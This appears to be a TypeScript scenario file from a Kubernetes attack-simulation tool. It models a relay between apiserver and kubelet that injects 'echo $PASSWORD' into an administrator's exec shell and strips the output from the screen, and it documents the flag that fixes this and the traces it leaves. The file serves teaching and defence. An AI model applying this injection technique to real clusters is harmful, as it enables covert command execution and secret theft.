import { runPodWithPassword } from './pod-with-password';
import { clusterOfOpenKubelets, relayToKubelet } from './relay-to-kubelet';
import type { Scenario } from './scenario';

export const hijackedShell: Scenario = {
  id: 'hijacked-shell',
  title: 'somebody else types into an administrator’s shell',
  story:
    'An administrator opens a shell in a pod. A machine between the apiserver and the node passes the session on, both ways, and types a line of its own into it; the echo and the answer it keeps for itself, so the screen shows a shell like any other. Authentication, authorization and audit saw what they were to see: an administrator, and one exec.',
  needs:
    'A place on the path between apiserver and node, and a kubelet that answers whoever asks (the relay has no client certificate).',
  evidence:
    'The container ran the line that nobody at the terminal typed, and its output is in the attacker’s loot while the administrator’s screen has neither.',
  attack: ['T1609'],
  setting: {
    name: '--kubelet-certificate-authority',
    open: 'unset (the default): the apiserver believes whatever certificate it is shown',
    fixed: 'the cluster’s CA: whoever is dialled must show a certificate for that address',
  },
  notice:
    'The shell’s own history, and the process accounting of the node, have a command that nobody typed. The audit log has not: it knows exec’s first command, never what is typed. The kubelet sees the exec come from another address than the apiserver’s.',
  sources: [
    'staging/src/k8s.io/kubelet/pkg/cri/streaming/remotecommand/httpstream.go',
    'pkg/registry/core/pod/rest/subresources.go (ExecREST)',
    'pkg/kubelet/client/kubelet_client.go (MakeTransport)',
  ],
  async play(stage, twin) {
    const { signal } = stage;
    const cluster = await clusterOfOpenKubelets(stage, twin);
    const password = await runPodWithPassword(stage, cluster, 'node-1');
    const attack = await relayToKubelet(stage, cluster, [
      { kind: 'inject', stream: 'stdin', text: 'echo $PASSWORD\n', when: { kind: 'open' } },
      { kind: 'replace', stream: 'stdout', match: '/echo \\$PASSWORD\\r\\n.*\\r\\n.*[$#] /', with: '' },
    ]);
    await stage.did(
      'attacker',
      'midplane attack --path exec --technique relay --rule \'inject: {stream: stdin, text: "echo $PASSWORD\\n"}\' …',
      'is at the node’s address, as far as the apiserver knows',
    );
    const stdin = Buffer.from('hostname\nexit\n');
    const command = ['sh'];
    const exec = await cluster.admin.exec({
      namespace: 'default',
      pod: 'db',
      command,
      stdin,
      tty: true,
      signal,
    });
    const typed = 'kubectl exec -it db -- sh, and types hostname, exit';
    const screen = exec.stdout.toString('utf8').trim().replaceAll(/\r?\n/g, ' | ');
    if (!exec.ok) return stage.refused('admin', typed, exec.words);
    if (screen.includes(password)) throw new Error(`the screen shows what the attacker asked: ${screen}`);
    await stage.did('admin', typed, screen);
    const answer = attack.loot.down().toString('utf8');
    if (!answer.includes(password)) throw new Error('the session did not come through the attacker');
    await stage.gained(
      'attacker',
      'typed echo $PASSWORD',
      password,
      'a command in an administrator’s shell, and its answer',
    );
  },
};
